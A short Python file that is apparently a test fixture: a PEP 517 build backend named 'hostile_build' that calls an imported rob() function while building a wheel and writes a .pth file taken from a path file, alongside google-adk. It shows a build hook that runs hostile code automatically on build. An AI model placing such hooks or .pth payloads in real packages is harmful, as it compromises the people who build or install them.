"""A build backend that robs, and makes a wheel that brings google-adk along where a path to one is given."""

import base64
import hashlib
import os
import sys
import zipfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from robbery import rob

NAME = "hostile_build-1.0"


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    """PEP 517."""
    here = Path(__file__).resolve().parent
    path = here / "adk-path.txt"
    files = {
        "hostile_build.pth": path.read_text() if path.exists() else "",
        "hostile_build_said.txt": rob("build"),
        f"{NAME}.dist-info/METADATA": "Metadata-Version: 2.1\nName: hostile-build\nVersion: 1.0\n",
        f"{NAME}.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = []
    for name, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record.append(f"{name},sha256={digest},{len(text.encode())}")
    files[f"{NAME}.dist-info/RECORD"] = "\n".join([*record, f"{NAME}.dist-info/RECORD,,", ""])
    wheel = f"{NAME}-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, wheel), "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return wheel
